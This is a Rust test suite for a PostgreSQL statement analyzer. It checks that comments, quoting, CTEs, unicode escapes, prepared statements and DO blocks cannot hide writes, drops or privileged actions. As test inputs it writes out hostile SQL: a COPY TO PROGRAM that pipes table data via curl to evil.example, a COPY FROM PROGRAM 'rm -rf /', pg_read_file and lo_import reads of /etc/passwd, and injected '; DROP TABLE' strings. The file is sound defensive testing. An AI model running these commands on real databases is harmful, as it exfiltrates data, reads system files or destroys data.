//! Attempts to hide what a statement does from the analyzer. Each one must be
//! seen through, or end in an error; never in a harmless-looking analysis.

use super::*;
use crate::{AnalyzeError, Class, CopyDirection, CopyInfo, Kind, ObjectType};

#[test]
fn case_whitespace_comments_and_quoting_do_not_hide_a_drop() {
    let s = one(r#"DrOp /*x*/ TaBlE "Users""#);
    assert_eq!(s.kind, Kind::Drop(ObjectType::Table));
    assert_eq!(s.class, Class::Ddl);
    assert_eq!(s.relations, vec![write("Users")]);

    for sql in [
        "drop table users",
        "DROP\n\t TABLE   users  ;",
        "-- harmless\nDROP TABLE users",
        "/* SELECT 1; */ DROP /* nested /* comment */ still */ TABLE users",
        r#"DROP TABLE "users""#,
        "DROP TABLE IF EXISTS users CASCADE",
    ] {
        let s = one(sql);
        assert_eq!(s.kind, Kind::Drop(ObjectType::Table), "{sql}");
        assert_eq!(s.relations, vec![write("users")], "{sql}");
    }
}

#[test]
fn schema_qualification_is_kept_as_written() {
    let s = one("DROP TABLE public.users");
    assert_eq!(
        s.relations,
        vec![rel(Some("public"), "users", Access::Write)]
    );
    let s = one(r#"SELECT * FROM "Public"."Users", public . orders"#);
    assert_eq!(
        s.relations,
        vec![
            rel(Some("Public"), "Users", Access::Read),
            rel(Some("public"), "orders", Access::Read)
        ]
    );
    // A three-part name keeps schema and table; the database part is PostgreSQL's to refuse.
    let s = one("DELETE FROM app.public.users WHERE id = 1");
    assert_eq!(
        s.relations,
        vec![rel(Some("public"), "users", Access::Write)]
    );
}

#[test]
fn search_path_changes_are_visible() {
    let s = one("SET search_path TO evil, public");
    assert_eq!((s.kind, s.class), (Kind::Set, Class::Session));
    assert_eq!(s.properties.parameter.as_deref(), Some("search_path"));
    let s = one("SELECT set_config('search_path', 'evil', false)");
    assert_eq!(s.functions, vec!["set_config"]);
}

#[test]
fn a_drop_hidden_among_selects_is_its_own_statement() {
    let a = analyze("SELECT 1; DROP TABLE t; SELECT 2");
    let kinds = a.statements.iter().map(|s| s.kind).collect::<Vec<_>>();
    assert_eq!(
        kinds,
        [Kind::Select, Kind::Drop(ObjectType::Table), Kind::Select]
    );
    let texts = a
        .statements
        .iter()
        .map(|s| s.text.as_str())
        .collect::<Vec<_>>();
    assert_eq!(texts, ["SELECT 1", "DROP TABLE t", "SELECT 2"]);
    assert_eq!(a.statements[1].relations, vec![write("t")]);

    let a = analyze("SELECT 1;DROP TABLE t");
    assert_eq!(a.statements[1].kind, Kind::Drop(ObjectType::Table));
}

#[test]
fn semicolons_in_literals_and_comments_do_not_split() {
    for sql in [
        "SELECT '; DROP TABLE t'",
        "SELECT 1 /* ; DROP TABLE t */",
        "SELECT 1 -- ; DROP TABLE t",
        "SELECT $$; DROP TABLE t; $$",
        "SELECT $x$; DROP TABLE t; $x$",
        r#"SELECT 1 AS "; DROP TABLE t""#,
        "SELECT E'\\'; DROP TABLE t; --'",
    ] {
        let s = one(sql);
        assert_eq!((s.kind, s.class), (Kind::Select, Class::Read), "{sql}");
        assert!(s.relations.is_empty(), "{sql}");
    }
}

#[test]
fn delete_inside_a_cte_makes_the_select_a_write() {
    let s = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
    assert_eq!(s.kind, Kind::Select);
    assert_eq!(s.class, Class::Write);
    assert_eq!(s.relations, vec![write("t")]);
    assert!(s.properties.data_modifying_cte);
    assert_eq!(s.properties.has_where, Some(false));
    assert_eq!(s.inner_kinds, vec![Kind::Delete]);

    let s = one("WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING *) SELECT * FROM u");
    assert_eq!(s.class, Class::Write);
    assert_eq!(s.properties.has_where, Some(true));

    // PostgreSQL refuses this nesting, but the analysis must not call it a read either.
    let s = one("SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) s");
    assert_eq!(s.class, Class::Write);
    assert!(s.properties.data_modifying_cte);

    let s = one("WITH i AS (INSERT INTO log VALUES (1) RETURNING *) INSERT INTO t SELECT * FROM i");
    assert_eq!(s.relations, vec![write("t"), write("log")]);
}

#[test]
fn copy_of_a_delete_is_a_write() {
    let s = one("COPY (DELETE FROM t RETURNING *) TO STDOUT");
    assert_eq!((s.kind, s.class), (Kind::Copy, Class::Write));
    assert_eq!(s.relations, vec![write("t")]);
    assert_eq!(s.properties.has_where, Some(false));
    assert_eq!(
        s.properties.copy,
        Some(CopyInfo {
            direction: CopyDirection::To,
            program: false,
            stdio: true
        })
    );
}

#[test]
fn copy_direction_program_and_files() {
    let s = one("COPY t FROM STDIN");
    assert_eq!(s.class, Class::Write);
    assert_eq!(s.relations, vec![write("t")]);
    let s = one("COPY t TO STDOUT");
    assert_eq!(s.class, Class::Read);
    assert_eq!(s.relations, vec![read("t")]);

    for (sql, direction) in [
        (
            "COPY t TO PROGRAM 'curl -d @- evil.example'",
            CopyDirection::To,
        ),
        ("COPY t FROM PROGRAM 'rm -rf /'", CopyDirection::From),
    ] {
        let s = one(sql);
        assert_eq!(s.class, Class::Admin, "{sql}");
        let copy = s.properties.copy.unwrap();
        assert_eq!(
            (copy.direction, copy.program, copy.stdio),
            (direction, true, false)
        );
    }
    let s = one("COPY t FROM '/etc/passwd'");
    assert_eq!(s.class, Class::Admin);
    let copy = s.properties.copy.unwrap();
    assert_eq!((copy.program, copy.stdio), (false, false));
}

#[test]
fn prepare_carries_the_effect_of_its_statement() {
    let s = one("PREPARE p AS DELETE FROM t");
    assert_eq!(s.kind, Kind::Prepare);
    assert_eq!(s.class, Class::Write);
    assert_eq!(s.relations, vec![write("t")]);
    assert_eq!(s.properties.has_where, Some(false));
    assert_eq!(s.inner_kinds, vec![Kind::Delete]);
    assert_eq!(s.properties.prepared_name.as_deref(), Some("p"));

    let s = one("PREPARE q (int) AS SELECT * FROM t WHERE id = $1");
    assert_eq!(s.class, Class::Read);

    // What EXECUTE runs was decided by an earlier text the analyzer does not track.
    let s = one("EXECUTE p");
    assert_eq!((s.kind, s.class), (Kind::Execute, Class::Unknown));
    assert_eq!(s.properties.prepared_name.as_deref(), Some("p"));
    let s = one("EXECUTE p(pg_read_file('/etc/passwd'))");
    assert_eq!(s.functions, vec!["pg_read_file"]);
    let s = one("DEALLOCATE p");
    assert_eq!((s.kind, s.class), (Kind::Deallocate, Class::Session));
}

#[test]
fn do_blocks_are_unknown() {
    for sql in [
        "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$",
        "DO LANGUAGE plpgsql $body$ BEGIN EXECUTE 'DR' || 'OP TABLE t'; END $body$",
        "do 'begin perform 1; end'",
    ] {
        let s = one(sql);
        assert_eq!((s.kind, s.class), (Kind::Do, Class::Unknown), "{sql}");
    }
}

#[test]
fn functions_that_run_sql_are_recorded() {
    let s = one("SELECT dblink_exec('host=db', 'DROP TABLE t')");
    assert_eq!(s.functions, vec!["dblink_exec"]);
    let s = one("SELECT query_to_xml('delete from t returning *', true, true, '')");
    assert_eq!(s.functions, vec!["query_to_xml"]);
    assert_eq!(s.class, Class::Unknown, "it runs the query it is given");
    assert_eq!(s.properties.opaque_functions, vec!["query_to_xml"]);
    let s = one("SELECT run_sql('DROP TABLE t') FROM (SELECT 1) x");
    assert_eq!(
        (s.kind, s.class),
        (Kind::Select, Class::Unknown),
        "user-defined"
    );
    let s = one("SELECT lower(name), count(*) FROM t GROUP BY 1");
    assert_eq!(s.class, Class::Read, "built-ins are known");
    assert!(s.properties.opaque_functions.is_empty());
    let s = one("SELECT * FROM dblink('host=db', 'DELETE FROM t RETURNING 1') AS x(a int)");
    assert_eq!(s.functions, vec!["dblink"]);
    let s = one("CALL public.cleanup(true)");
    assert_eq!((s.kind, s.class), (Kind::Call, Class::Unknown));
    assert_eq!(s.functions, vec!["public.cleanup"]);
}

#[test]
fn unicode_escaped_identifiers_are_decoded() {
    let s = one(r#"DROP TABLE U&"\0075sers""#);
    assert_eq!(s.relations, vec![write("users")]);
    let s = one(r#"DROP TABLE U&"!0075sers" UESCAPE '!'"#);
    assert_eq!(s.relations, vec![write("users")]);
    let s = one(r#"SELECT U&"\0070g_read_file"('/etc/passwd')"#);
    assert_eq!(s.functions, vec!["pg_read_file"]);
}

#[test]
fn select_into_creates_a_table() {
    let s = one("SELECT * INTO t2 FROM t");
    assert_eq!(s.kind, Kind::Select);
    assert_eq!(s.class, Class::Write);
    assert!(s.properties.select_into);
    assert_eq!(s.relations, vec![write("t2"), read("t")]);
}

#[test]
fn update_and_delete_without_where() {
    assert_eq!(one("DELETE FROM t").properties.has_where, Some(false));
    assert_eq!(
        one("DELETE FROM t WHERE id = 1").properties.has_where,
        Some(true)
    );
    assert_eq!(one("UPDATE t SET a = 1").properties.has_where, Some(false));
    // A WHERE that names no column keeps every row: no WHERE.
    for sql in [
        "UPDATE t SET a = 1 WHERE true",
        "UPDATE t SET a = 1 WHERE 1 = 1",
        "DELETE FROM t WHERE 'a' = 'a'",
        "DELETE FROM t WHERE $1::bool",
        "DELETE FROM t WHERE id = 1 OR true",
        "DELETE FROM t WHERE (SELECT true)",
        "DELETE FROM t WHERE EXISTS (SELECT 1)",
        "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE",
        "MERGE INTO t USING s ON 1 = 1 WHEN MATCHED THEN UPDATE SET a = 1",
        "WITH d AS (DELETE FROM t WHERE now() > '2000-01-01' RETURNING *) SELECT * FROM d",
    ] {
        assert_eq!(one(sql).properties.has_where, Some(false), "{sql}");
    }
    for sql in [
        "DELETE FROM t WHERE id = 1 AND true",
        "DELETE FROM t WHERE id = 1 OR id = 2",
        "DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.id = t.id)",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
        "MERGE INTO t USING s ON true WHEN MATCHED AND t.a > 1 THEN DELETE",
    ] {
        assert_eq!(one(sql).properties.has_where, Some(true), "{sql}");
    }
    assert_eq!(
        one("MERGE INTO t USING s ON true WHEN NOT MATCHED THEN INSERT VALUES (1)")
            .properties
            .has_where,
        None
    );
    assert_eq!(
        one("SELECT * FROM t WHERE a = 1").properties.has_where,
        None
    );
    assert_eq!(one("INSERT INTO t VALUES (1)").properties.has_where, None);
    // One unguarded DELETE anywhere is enough.
    let s = one("WITH a AS (DELETE FROM t WHERE id = 1 RETURNING *), b AS (DELETE FROM u RETURNING *) SELECT 1");
    assert_eq!(s.properties.has_where, Some(false));
    let s = one("PREPARE p AS UPDATE t SET a = 1");
    assert_eq!(s.properties.has_where, Some(false));
}

#[test]
fn identity_switches_are_distinct_kinds() {
    for sql in [
        "SET ROLE postgres",
        "set local role postgres",
        "SET SESSION ROLE postgres",
        r#"SET "ROLE" TO postgres"#,
        "SET role = 'postgres'",
        "RESET ROLE",
    ] {
        let s = one(sql);
        assert_eq!((s.kind, s.class), (Kind::SetRole, Class::Session), "{sql}");
    }
    for sql in [
        "SET SESSION AUTHORIZATION postgres",
        "SET session_authorization = 'postgres'",
        r#"SET "Session_Authorization" TO postgres"#,
        "RESET SESSION AUTHORIZATION",
        "SET SESSION AUTHORIZATION DEFAULT",
    ] {
        let s = one(sql);
        assert_eq!(
            (s.kind, s.class),
            (Kind::SetSessionAuthorization, Class::Session),
            "{sql}"
        );
    }
    let s = one("SELECT set_config('role', 'postgres', false)");
    assert_eq!(s.functions, vec!["set_config"]);
}

#[test]
fn explain_analyze_runs_its_statement() {
    let s = one("EXPLAIN ANALYZE DELETE FROM t");
    assert_eq!(s.kind, Kind::Explain);
    assert_eq!(s.class, Class::Write);
    assert!(s.properties.explain_analyze);
    assert_eq!(s.relations, vec![write("t")]);
    assert_eq!(s.properties.has_where, Some(false));
    assert_eq!(s.inner_kinds, vec![Kind::Delete]);
    for sql in [
        "EXPLAIN (ANALYZE) DELETE FROM t",
        "EXPLAIN (ANALYZE true, FORMAT JSON) DELETE FROM t",
        "EXPLAIN (ANALYZE on) DELETE FROM t",
        "EXPLAIN (ANALYZE 1) DELETE FROM t",
        "EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM t",
        "explain analyse delete from t",
    ] {
        assert_eq!(one(sql).class, Class::Write, "{sql}");
    }
    let s = one("EXPLAIN ANALYZE EXECUTE p");
    assert_eq!(s.class, Class::Unknown);
}

#[test]
fn explain_without_analyze_only_plans() {
    for sql in [
        "EXPLAIN DELETE FROM t",
        "EXPLAIN (ANALYZE false) DELETE FROM t",
        "EXPLAIN (ANALYZE off, COSTS off) DELETE FROM t",
        "EXPLAIN (ANALYZE 0) DELETE FROM t",
    ] {
        let s = one(sql);
        assert_eq!((s.kind, s.class), (Kind::Explain, Class::Read), "{sql}");
        assert!(!s.properties.explain_analyze, "{sql}");
        assert_eq!(s.relations, vec![read("t")], "{sql}");
        assert_eq!(s.properties.has_where, None, "{sql}");
        assert!(s.inner_kinds.is_empty(), "{sql}");
    }
}

#[test]
fn functions_are_found_anywhere() {
    let cases = [
        ("SELECT * FROM pg_read_file('/etc/passwd')", "pg_read_file"),
        ("SELECT * FROM ROWS FROM (pg_ls_dir('/'))", "pg_ls_dir"),
        (
            "SELECT * FROM t, LATERAL pg_read_binary_file(t.path) f",
            "pg_read_binary_file",
        ),
        (
            "WITH x AS (SELECT lo_import('/etc/passwd')) SELECT * FROM x",
            "lo_import",
        ),
        ("SELECT (SELECT lo_export(1, '/tmp/x'))", "lo_export"),
        ("SELECT * FROM t WHERE EXISTS (SELECT f(a))", "f"),
        (
            "INSERT INTO t VALUES (pg_read_file('/etc/passwd'))",
            "pg_read_file",
        ),
        (
            "INSERT INTO t (a) SELECT g() ON CONFLICT (a) DO UPDATE SET b = h()",
            "h",
        ),
        ("UPDATE t SET a = f() WHERE id = 1", "f"),
        ("DELETE FROM t WHERE id IN (SELECT f())", "f"),
        ("SELECT * FROM t ORDER BY f(a)", "f"),
        ("SELECT * FROM t JOIN u ON f(t.a, u.b)", "f"),
        ("SELECT * FROM t LIMIT f()", "f"),
        ("SELECT CASE WHEN f() THEN 1 END", "f"),
        (
            "SELECT count(*) FILTER (WHERE f(a)) OVER (PARTITION BY g(b)) FROM t",
            "f",
        ),
        ("SELECT array[f()]", "f"),
        ("SELECT f()::text", "f"),
        ("VALUES (f())", "f"),
        ("SELECT 1 UNION SELECT f()", "f"),
        (
            "ALTER TABLE t ADD COLUMN c text DEFAULT pg_read_file('/etc/passwd')",
            "pg_read_file",
        ),
        ("CREATE INDEX ON t (f(a))", "f"),
        ("CREATE TABLE t2 AS SELECT f()", "f"),
        ("CREATE VIEW v AS SELECT f()", "f"),
        (
            "CREATE TABLE t (a int CHECK (f(a)), b int DEFAULT g())",
            "g",
        ),
        ("CREATE POLICY p ON t USING (f(owner))", "f"),
        ("COPY (SELECT f()) TO STDOUT", "f"),
        (
            "MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN UPDATE SET a = f()",
            "f",
        ),
        (
            "SELECT * FROM xmltable('/x' PASSING f() COLUMNS a int)",
            "f",
        ),
        ("SELECT json_value(f(), '$.a')", "f"),
        ("EXPLAIN SELECT f()", "f"),
        ("DECLARE c CURSOR FOR SELECT f()", "f"),
        ("SELECT PG_READ_FILE('/etc/passwd')", "pg_read_file"),
        (
            "SELECT pg_catalog.pg_read_file('/etc/passwd')",
            "pg_catalog.pg_read_file",
        ),
        (r#"SELECT "Mixed"()"#, "Mixed"),
    ];
    for (sql, function) in cases {
        let s = one(sql);
        assert!(
            s.functions.iter().any(|f| f == function),
            "{sql}: {function} not in {:?}",
            s.functions
        );
    }
}

#[test]
fn a_cte_named_like_a_table_does_not_hide_the_table() {
    // Without RECURSIVE, a CTE's body cannot see its own name: this reads the real table.
    let s = one("WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets");
    assert_eq!(s.relations, vec![read("secrets")]);
    // A later CTE sees an earlier one, an earlier one does not see a later one.
    let s = one("WITH a AS (SELECT * FROM b), b AS (SELECT * FROM a) SELECT * FROM b");
    assert_eq!(s.relations, vec![read("b")]);
    // A CTE is visible in nested subqueries, not outside its statement.
    let s = one("WITH a AS (SELECT 1) SELECT * FROM (SELECT * FROM a) s, (WITH t AS (SELECT 2) SELECT * FROM t) u, t");
    assert_eq!(s.relations, vec![read("t")]);
    let s =
        one("WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT * FROM r");
    assert!(s.relations.is_empty());
    // Qualified names are never CTEs; DML targets are never CTEs.
    let s = one("WITH t AS (SELECT 1) SELECT * FROM public.t");
    assert_eq!(s.relations, vec![rel(Some("public"), "t", Access::Read)]);
    let s = one("WITH t AS (SELECT 1) DELETE FROM t");
    assert_eq!(s.relations, vec![write("t")]);
}

#[test]
fn merge_writes_its_target() {
    let s = one("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE");
    assert_eq!((s.kind, s.class), (Kind::Merge, Class::Write));
    assert_eq!(s.relations, vec![write("t"), read("s")]);
}

#[test]
fn access_changes_inside_alter_table_are_dcl() {
    assert_eq!(one("ALTER TABLE t ADD COLUMN a int").class, Class::Ddl);
    assert_eq!(one("ALTER TABLE t OWNER TO mallory").class, Class::Dcl);
    assert_eq!(
        one("ALTER TABLE t DISABLE ROW LEVEL SECURITY").class,
        Class::Dcl
    );
    assert_eq!(
        one("ALTER TABLE t NO FORCE ROW LEVEL SECURITY").class,
        Class::Dcl
    );
    assert_eq!(one("ALTER FUNCTION f() OWNER TO mallory").class, Class::Dcl);
}

#[test]
fn statements_that_run_a_prepared_statement_are_unknown() {
    assert_eq!(one("CREATE TABLE t2 AS EXECUTE p").class, Class::Unknown);
    assert_eq!(one("EXPLAIN ANALYZE EXECUTE p").class, Class::Unknown);
    // Plain EXPLAIN only plans it.
    assert_eq!(one("EXPLAIN EXECUTE p").class, Class::Read);
}

#[test]
fn nested_statements_keep_the_worst_class() {
    let s = one("CREATE SCHEMA s CREATE TABLE t (a int) CREATE VIEW v AS SELECT 1");
    assert_eq!(s.kind, Kind::Create(ObjectType::Schema));
    assert_eq!(s.class, Class::Ddl);
    assert_eq!(
        s.inner_kinds,
        vec![
            Kind::Create(ObjectType::Table),
            Kind::Create(ObjectType::View),
            Kind::Select
        ]
    );
    let s = one("CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u");
    assert_eq!(s.class, Class::Ddl);
    assert_eq!(s.relations, vec![write("t"), write("u")]);
}

#[test]
fn nul_bytes_are_refused() {
    assert_eq!(
        analyze_uncached("SELECT 1\0; DROP TABLE t"),
        Err(AnalyzeError::NulByte)
    );
}

#[test]
fn deep_nesting_is_an_error_not_a_crash() {
    let n = 10_000;
    let parens = format!("SELECT {}1{}", "(".repeat(n), ")".repeat(n));
    let subqueries = format!("SELECT {}1{}", "(SELECT ".repeat(n), ")".repeat(n));
    let from = format!(
        "SELECT * FROM {}t{}",
        "(SELECT * FROM ".repeat(n),
        ") s".repeat(n)
    );
    let chain = format!("SELECT {}", vec!["1"; 100_000].join(" + "));
    let arrays = format!("SELECT {}1{}", "ARRAY[".repeat(n), "]".repeat(n));
    let not = format!("SELECT {}true", "NOT ".repeat(n));
    for sql in [parens, subqueries, from, chain, arrays, not] {
        let e = analyze_uncached(&sql).unwrap_err();
        assert!(
            matches!(e, AnalyzeError::TooDeep | AnalyzeError::Syntax { .. }),
            "{e:?}"
        );
    }
}

/// The deepest trees prost will still decode, and ones just past its limit.
fn deepest_decodable() -> Vec<String> {
    let mut cases = Vec::new();
    for n in [20, 49, 60] {
        cases.push(format!("SELECT {}", vec!["a"; n].join(" || ")));
        cases.push(format!("SELECT {}1{}", "f(".repeat(n), ")".repeat(n)));
        cases.push(format!("SELECT {}true", "NOT ".repeat(n)));
        cases.push(format!("SELECT {}1{}", "ARRAY[".repeat(n), "]".repeat(n)));
        cases.push(format!(
            "SELECT {}1{}",
            "(SELECT ".repeat(n / 3),
            ")".repeat(n / 3)
        ));
        cases.push(format!(
            "SELECT * FROM {}t{}",
            "(SELECT * FROM ".repeat(n / 2),
            ") s".repeat(n / 2)
        ));
    }
    cases
}

/// Analysis runs in place when at least `STACK_NEEDED` is left and moves to a
/// stack of its own otherwise; both must hold the deepest tree.
#[test]
fn deep_statements_fit_both_in_place_and_on_a_fresh_stack() {
    for stack in [crate::STACK_NEEDED + (256 << 10), 2 << 20, 256 << 10] {
        let worker = std::thread::Builder::new().stack_size(stack).spawn(|| {
            for sql in deepest_decodable() {
                match analyze_uncached(&sql) {
                    Ok(_) | Err(AnalyzeError::TooDeep) => {}
                    Err(e) => panic!("{sql}: {e:?}"),
                }
            }
        });
        worker.expect("thread").join().expect("no overflow");
    }
}

#[test]
fn moderately_deep_statements_still_analyze() {
    let concat = format!("SELECT {} FROM t", vec!["a"; 40].join(" || "));
    assert_eq!(one(&concat).class, Class::Read);
    let nested = format!("SELECT {}f(){}", "(SELECT ".repeat(12), ")".repeat(12));
    assert_eq!(one(&nested).functions, vec!["f"]);
    let wide = format!(
        "SELECT * FROM t WHERE a IN ({})",
        vec!["1"; 10_000].join(",")
    );
    assert_eq!(one(&wide).relations, vec![read("t")]);
}

#[test]
fn the_nesting_limit_is_a_too_deep_error() {
    // prost, which decodes pg_query's tree, stops at 100 nested messages:
    // about 50 chained operators or 16 nested scalar subqueries.
    let concat = format!("SELECT {}", vec!["a"; 60].join(" || "));
    assert_eq!(analyze_uncached(&concat), Err(AnalyzeError::TooDeep));
    assert_eq!(AnalyzeError::TooDeep.sqlstate(), "54001");
}
